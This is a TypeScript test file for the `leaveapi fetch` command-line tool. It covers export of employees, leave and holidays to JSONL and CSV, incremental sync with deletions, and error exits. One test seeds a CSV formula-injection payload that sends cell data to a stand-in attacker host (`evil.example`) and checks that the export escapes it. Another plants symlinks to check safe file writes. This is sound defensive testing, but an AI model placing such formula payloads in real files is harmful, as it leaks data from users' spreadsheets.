/**
 * `leaveapi fetch` against a running `leaveapi serve`, as an integrator runs it: every
 * record to JSONL and CSV, an incremental run that returns only what changed and what was
 * deleted (a delta that imports into a copy and makes it equal the source), a state older
 * than the server's deletions (exit 1, nothing written), bad usage (exit 2) and refused
 * credentials (exit 1, one line).
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, lstatSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { createClient, type LeaveApiClient } from "../client/index.ts";
import { runCli, runJson, scratchDir, startServer, type RunningServer } from "./cli-harness.ts";

const EXAMPLES = join(import.meta.dir, "../examples/import");

let server: RunningServer;
let scratch: ReturnType<typeof scratchDir>;
let db: string[];
let orgId: string;
let env: Record<string, string>;
let api: LeaveApiClient;

beforeAll(async () => {
  scratch = scratchDir();
  db = ["--db", join(scratch.dir, "fetch.sqlite")];
  orgId = (await runJson<{ id: string }>([...db, "org", "create", "--name", "Fetch Ltd"])).id;
  await runJson([...db, "org", "enable-api", orgId]);
  const creds = await runJson<{ client_id: string; client_secret: string }>([...db, "credentials", "create", "--org", orgId]);
  env = { LEAVEAPI_CLIENT_ID: creds.client_id, LEAVEAPI_CLIENT_SECRET: creds.client_secret };
  for (const kind of ["holidays", "employees", "leave"]) await runJson([...db, "import", "--org", orgId, "--kind", kind, join(EXAMPLES, `${kind}.jsonl`)]);
  server = await startServer(db);
  api = createClient({ baseUrl: server.baseUrl, clientId: creds.client_id, clientSecret: creds.client_secret });
}, 30_000);

afterAll(async () => {
  expect(await server.stop()).toBe(0);
  scratch.dispose();
});

const fetchCli = (args: string[], extraEnv: Record<string, string> = {}) =>
  runCli(["fetch", "--url", server.baseUrl, ...args], { env: { ...env, ...extraEnv } });

async function collect<T>(items: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = [];
  for await (const item of items) out.push(item);
  return out;
}

/** A new organisation with API access on and credentials, as `fetch` reads them from the environment. */
async function organisationWithCredentials(name: string): Promise<{ id: string; env: Record<string, string> }> {
  const id = (await runJson<{ id: string }>([...db, "org", "create", "--name", name])).id;
  await runJson([...db, "org", "enable-api", id]);
  const creds = await runJson<{ client_id: string; client_secret: string }>([...db, "credentials", "create", "--org", id]);
  return { id, env: { LEAVEAPI_CLIENT_ID: creds.client_id, LEAVEAPI_CLIENT_SECRET: creds.client_secret } };
}

const jsonLines = (text: string): unknown[] =>
  text
    .split("\n")
    .filter((l) => l !== "")
    .map((l) => JSON.parse(l) as unknown);

describe("leaveapi fetch", () => {
  test("writes every employee as JSON Lines, paging through, exactly as the API returns them", async () => {
    const result = await fetchCli(["employees", "--limit", "1"]);
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
    expect(jsonLines(result.stdout)).toEqual(await collect(api.employees()));
    expect(jsonLines(result.stdout)).toHaveLength(3);
  }, 30_000);

  test("writes leave as CSV with leave_type flattened and quoting where needed; the file imports again unchanged", async () => {
    const output = join(scratch.dir, "leave.csv");
    const result = await fetchCli(["leave", "--from", "2026-01-01", "--to", "2026-12-31", "--format", "csv", "--output", output, "--limit", "2"]);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^fetched 4 records of leave into /);
    const rows = parse(readFileSync(output, "utf8"), { columns: true }) as Record<string, string>[];
    const bookings = await collect(api.leaveRequests({ from: "2026-01-01", to: "2026-12-31" }));
    expect(rows.map((r) => r.id)).toEqual(bookings.map((b) => b.id));
    expect(Object.keys(rows[0]!)).toContain("leave_type_is_paid");
    expect(rows[0]).toMatchObject({
      leave_type_name: "Annual leave",
      leave_type_category: "annual",
      leave_type_is_paid: "true",
      start_half_period: "",
      days: String(bookings[0]!.days),
    });
    const again = await runJson<{ unchanged: number; updated: number }>([...db, "import", "--org", orgId, "--kind", "leave", output]);
    expect(again).toMatchObject({ unchanged: 4, updated: 0 });

    const people = join(scratch.dir, "employees.csv");
    expect((await fetchCli(["employees", "--format", "csv", "--output", people])).code).toBe(0);
    expect(readFileSync(people, "utf8")).toContain('"Head of Research, Data"');
  }, 30_000);

  test("--state fetches everything once, then only what changed", async () => {
    const state = join(scratch.dir, "employees.state.json");
    const output = join(scratch.dir, "changes.jsonl");
    const first = await fetchCli(["employees", "--state", state, "--skew", "0", "--output", output, "--json"]);
    expect(first.code).toBe(0);
    expect(JSON.parse(first.stdout)).toMatchObject({ records: 3, incremental: false });
    expect(jsonLines(readFileSync(output, "utf8"))).toHaveLength(3);

    const changed = join(scratch.dir, "change.jsonl");
    writeFileSync(
      changed,
      `${JSON.stringify({ external_id: "E002", first_name: "Grace", last_name: "Hopper", preferred_name: "Amazing Grace", job_title: "Rear Admiral", department: "Research", status: "active", start_date: "2019-03-11", leaving_date: null, holiday_calendar: "GB-SCT" })}\n`,
    );
    expect(await runJson([...db, "import", "--org", orgId, "--kind", "employees", changed])).toMatchObject({ updated: 1 });

    const second = await fetchCli(["employees", "--state", state, "--skew", "0", "--output", output, "--json"]);
    expect(second.code).toBe(0);
    expect(JSON.parse(second.stdout)).toMatchObject({ records: 1, incremental: true });
    expect(jsonLines(readFileSync(output, "utf8"))).toMatchObject([{ job_title: "Rear Admiral" }]);

    const other = await fetchCli(["employees", "--status", "active", "--state", state]);
    expect(other.code).toBe(1);
    expect(other.stderr).toMatch(/^leaveapi: state file .* was written for 'employees', not 'employees status=active'; use another state file\n$/);
  }, 30_000);

  test("--state writes the deletions since the previous run as import rows: a copy that imports each output equals the source", async () => {
    // Organisations of their own, so that the other tests' counts stand: the source, and a
    // copy kept only by importing what fetch wrote.
    const source = await organisationWithCredentials("Source Ltd");
    const copy = await organisationWithCredentials("Copy Ltd");
    for (const kind of ["employees", "leave"]) await runJson([...db, "import", "--org", source.id, "--kind", kind, join(EXAMPLES, `${kind}.jsonl`)]);
    const fetchSource = (args: string[]) => runCli(["fetch", "--url", server.baseUrl, ...args], { env: source.env });
    const importIntoCopy = (kind: string, file: string) => runJson([...db, "import", "--org", copy.id, "--kind", kind, file]);
    const people = { state: join(scratch.dir, "people.state.json"), output: join(scratch.dir, "people.jsonl") };
    const leave = { state: join(scratch.dir, "leave.state.json"), output: join(scratch.dir, "leave-delta.csv") };
    const range = ["--from", "2026-01-01", "--to", "2026-12-31"];
    const fetchPeople = () => fetchSource(["employees", "--state", people.state, "--skew", "0", "--output", people.output, "--json"]);
    const fetchLeave = () => fetchSource(["leave", ...range, "--format", "csv", "--state", leave.state, "--skew", "0", "--output", leave.output, "--json"]);

    expect(JSON.parse((await fetchPeople()).stdout)).toMatchObject({ records: 3, deleted: 0, incremental: false });
    expect(JSON.parse((await fetchLeave()).stdout)).toMatchObject({ records: 4, deleted: 0, incremental: false });
    // Every run of a state file has the same CSV header: the record's columns and `deleted`.
    const firstLeave = parse(readFileSync(leave.output, "utf8"), { columns: true }) as Record<string, string>[];
    expect(firstLeave.map((r) => r.deleted)).toEqual(["false", "false", "false", "false"]);
    await importIntoCopy("employees", people.output);
    await importIntoCopy("leave", leave.output);

    // E001 (who has leave) goes, E002 changes.
    const change = join(scratch.dir, "source-change.jsonl");
    writeFileSync(
      change,
      `${JSON.stringify({ external_id: "E001", deleted: true })}\n${JSON.stringify({ external_id: "E002", first_name: "Grace", last_name: "Hopper", status: "active", start_date: "2019-03-11", job_title: "Rear Admiral" })}\n`,
    );
    expect(await runJson([...db, "import", "--org", source.id, "--kind", "employees", change])).toMatchObject({ updated: 1, deleted: 1 });
    const sourceApi = createClient({ baseUrl: server.baseUrl, clientId: source.env.LEAVEAPI_CLIENT_ID!, clientSecret: source.env.LEAVEAPI_CLIENT_SECRET! });
    const feed = await collect(sourceApi.deletions({ resource: "leave-requests", updatedSince: new Date(Date.now() - 3_600_000).toISOString() }));
    expect(feed.length).toBeGreaterThan(0);

    const second = await fetchPeople();
    expect(second.code).toBe(0);
    expect(JSON.parse(second.stdout)).toMatchObject({ records: 1, deleted: 1, incremental: true });
    const lines = jsonLines(readFileSync(people.output, "utf8")) as Record<string, unknown>[];
    // The deletion first, as import spells one: what identifies the record, and when.
    expect(lines).toHaveLength(2);
    expect(Object.keys(lines[0]!).sort()).toEqual(["deleted", "id", "updated_at"]);
    expect(lines[0]).toMatchObject({ deleted: true });
    expect(lines[1]).toMatchObject({ job_title: "Rear Admiral" });

    const leaveDelta = await fetchLeave();
    expect(leaveDelta.code).toBe(0);
    expect(JSON.parse(leaveDelta.stdout)).toMatchObject({ records: 0, deleted: feed.length, incremental: true });
    const rows = parse(readFileSync(leave.output, "utf8"), { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual(Object.keys(firstLeave[0]!));
    expect(rows.map((r) => [r.id, r.deleted, r.updated_at])).toEqual(feed.map((d) => [d.id, "true", d.deleted_at]));

    await importIntoCopy("employees", people.output);
    await importIntoCopy("leave", leave.output);
    const copyApi = createClient({ baseUrl: server.baseUrl, clientId: copy.env.LEAVEAPI_CLIENT_ID!, clientSecret: copy.env.LEAVEAPI_CLIENT_SECRET! });
    const withoutStamps = <T extends { updated_at: string }>(records: T[]) => records.map(({ updated_at: _, ...rest }) => rest);
    const byId = (a: { id: string }, b: { id: string }) => a.id.localeCompare(b.id);
    expect(withoutStamps(await collect(copyApi.employees())).sort(byId)).toEqual(withoutStamps(await collect(sourceApi.employees())).sort(byId));
    expect(withoutStamps(await collect(copyApi.leaveRequests({ from: "2026-01-01", to: "2026-12-31" })))).toEqual(
      withoutStamps(await collect(sourceApi.leaveRequests({ from: "2026-01-01", to: "2026-12-31" }))),
    );
  }, 60_000);

  test("a state older than the deletions the server keeps exits 1, writes nothing and keeps the state", async () => {
    const state = join(scratch.dir, "ancient.state.json");
    const ancient = { resource: "employees", filters: { from: null, to: null, status: null, employee_id: null }, since: "2020-01-01T00:00:00.000Z" };
    writeFileSync(state, `${JSON.stringify(ancient)}\n`);
    for (const output of [[], ["--output", join(scratch.dir, "ancient.csv")]]) {
      const result = await fetchCli(["employees", "--format", "csv", "--state", state, ...output]);
      expect(result.code).toBe(1);
      expect(result.stdout).toBe("");
      expect(result.stderr).toMatch(
        /^leaveapi: fetch failed: state file .*ancient\.state\.json is older than the deletions the server keeps \(410 sync_expired\).*Move the state file aside and run again to fetch everything, and replace your copy with that output/,
      );
      expect(result.stderr.split("\n")).toHaveLength(2);
    }
    expect(existsSync(join(scratch.dir, "ancient.csv"))).toBe(false);
    expect(JSON.parse(readFileSync(state, "utf8"))).toEqual(ancient);
  }, 30_000);

  test("holidays, with a warning when the secret is on the command line", async () => {
    const result = await runCli([
      "fetch",
      "--url",
      server.baseUrl,
      "--client-id",
      env.LEAVEAPI_CLIENT_ID!,
      "--client-secret",
      env.LEAVEAPI_CLIENT_SECRET!,
      "holidays",
      "--from",
      "2026-12-24",
      "--to",
      "2026-12-26",
      "--type",
      "company",
    ]);
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(/warning: a secret given as --client-secret shows in `ps`/);
    expect(jsonLines(result.stdout)).toMatchObject([{ name: "Christmas Eve closure", type: "company" }]);
  }, 30_000);

  test("bad usage exits 2 with the usage", async () => {
    for (const args of [
      [],
      ["payroll"],
      ["employees", "--from", "2026-01-01"],
      ["leave", "--from", "2026-01-01"],
      ["holidays", "--from", "2026-01-01", "--to", "2026-01-31", "--state", "x.json"],
      ["employees", "--bogus"],
      ["employees", "--limit", "0"],
      ["employees", "--format", "xml"],
    ]) {
      const result = await fetchCli(args);
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/^leaveapi: .*\nusage: leaveapi fetch/);
    }
    const noUrl = await runCli(["fetch", "employees"], { env });
    expect(noUrl.code).toBe(2);
    const noSecret = await runCli(["fetch", "--url", server.baseUrl, "employees"], {
      env: { LEAVEAPI_CLIENT_ID: env.LEAVEAPI_CLIENT_ID!, LEAVEAPI_CLIENT_SECRET: "" },
    });
    expect(noSecret.code).toBe(2);
  }, 30_000);

  test("--output and --state never write through a planted symlink, and keep a private output private", async () => {
    // Credentials of its own: the file's other tests have used most of the first ones' 10 token requests a minute.
    const own = await runJson<{ client_id: string; client_secret: string }>([...db, "credentials", "create", "--org", orgId]);
    const fetchCli = (args: string[]) =>
      runCli(["fetch", "--url", server.baseUrl, ...args], { env: { LEAVEAPI_CLIENT_ID: own.client_id, LEAVEAPI_CLIENT_SECRET: own.client_secret } });
    const victim = join(scratch.dir, "victim.txt");
    writeFileSync(victim, "precious");
    const output = join(scratch.dir, "planted-output.jsonl");
    const state = join(scratch.dir, "planted.state.json");
    symlinkSync(victim, output);
    // A dangling link where the state goes: the first run reads no state, then writes one.
    const elsewhere = join(scratch.dir, "elsewhere.json");
    symlinkSync(elsewhere, state);
    const result = await fetchCli(["employees", "--output", output, "--state", state]);
    expect({ code: result.code, stderr: result.stderr }).toEqual({ code: 0, stderr: "" });
    expect(readFileSync(victim, "utf8")).toBe("precious");
    expect(existsSync(elsewhere)).toBe(false);
    for (const file of [output, state]) {
      expect(lstatSync(file).isSymbolicLink()).toBe(false);
      expect(statSync(file).mode & 0o777).toBe(0o600);
    }
    const kept = join(scratch.dir, "kept.jsonl");
    writeFileSync(kept, "");
    chmodSync(kept, 0o600);
    expect((await fetchCli(["employees", "--output", kept])).code).toBe(0);
    expect(statSync(kept).mode & 0o777).toBe(0o600);
    expect(readFileSync(kept, "utf8").split("\n").length).toBeGreaterThan(1);
  }, 30_000);

  test("a wrong secret exits 1 with one line, and leaves no output file", async () => {
    const output = join(scratch.dir, "refused.jsonl");
    const result = await fetchCli(["employees", "--output", output], { LEAVEAPI_CLIENT_SECRET: "svcs_wrongwrongwrongwrongwrongwrongwrongwrongwro" });
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^leaveapi: fetch failed: .*invalid_client.*\n$/);
    expect(result.stderr.split("\n")).toHaveLength(2);
    expect(result.stdout).toBe("");
    expect(existsSync(output)).toBe(false);
  }, 30_000);

  test("CSV cells a spreadsheet would run as formulas get a leading ', and the file imports back unchanged", async () => {
    // An organisation of its own, so that the other tests' counts stand.
    const other = (await runJson<{ id: string }>([...db, "org", "create", "--name", "Formula Ltd"])).id;
    await runJson([...db, "org", "enable-api", other]);
    const creds = await runJson<{ client_id: string; client_secret: string }>([...db, "credentials", "create", "--org", other]);
    const hostile = {
      external_id: "F1",
      first_name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      last_name: "+1-555-0100",
      preferred_name: "@SUM(A1:A9)",
      job_title: "-",
      department: "\tOps",
      status: "active",
      start_date: "2026-01-05",
      holiday_calendar: "GB-ENG",
    };
    const plain = {
      external_id: "F2",
      first_name: "Ada",
      last_name: "'t Hooft",
      preferred_name: "'=already quoted",
      job_title: "A-Team lead",
      department: "R&D",
      status: "active",
      start_date: "2026-02-01",
    };
    const source = join(scratch.dir, "formulas.jsonl");
    writeFileSync(source, `${JSON.stringify(hostile)}\n${JSON.stringify(plain)}\n`);
    await runJson([...db, "import", "--org", other, "--kind", "employees", source]);

    const output = join(scratch.dir, "formulas.csv");
    const result = await runCli(["fetch", "--url", server.baseUrl, "employees", "--format", "csv", "--output", output], {
      env: { LEAVEAPI_CLIENT_ID: creds.client_id, LEAVEAPI_CLIENT_SECRET: creds.client_secret },
    });
    expect(result.code).toBe(0);
    const rows = parse(readFileSync(output, "utf8"), { columns: true }) as Record<string, string>[];
    const byName = (first: string) => rows.find((r) => r.first_name === first || r.first_name === `'${first}`)!;
    expect(byName(hostile.first_name)).toMatchObject({
      first_name: `'${hostile.first_name}`,
      last_name: "'+1-555-0100",
      preferred_name: "'@SUM(A1:A9)",
      job_title: "'-",
      department: "'\tOps",
      // Ids, dates, statuses and calendar keys never start with such a character: as they are.
      status: "active",
      start_date: "2026-01-05",
      holiday_calendar: "GB-ENG",
    });
    expect(byName(hostile.first_name).id).toMatch(/^[0-9a-f-]{36}$/);
    expect(byName("Ada")).toMatchObject({ last_name: "'t Hooft", preferred_name: "''=already quoted", job_title: "A-Team lead", department: "R&D" });
    // Not a cell of the file starts with a formula character.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/);

    const again = await runJson<{ unchanged: number; updated: number }>([...db, "import", "--org", other, "--kind", "employees", output]);
    expect(again).toMatchObject({ unchanged: 2, updated: 0 });
  }, 30_000);

  test("a server that is not there exits 1 with one line", async () => {
    const result = await runCli(["fetch", "--url", "http://127.0.0.1:1", "employees"], { env });
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^leaveapi: fetch failed: No answer from http:\/\/127\.0\.0\.1:1: .*\(network_error\)\n$/);
  }, 30_000);
});
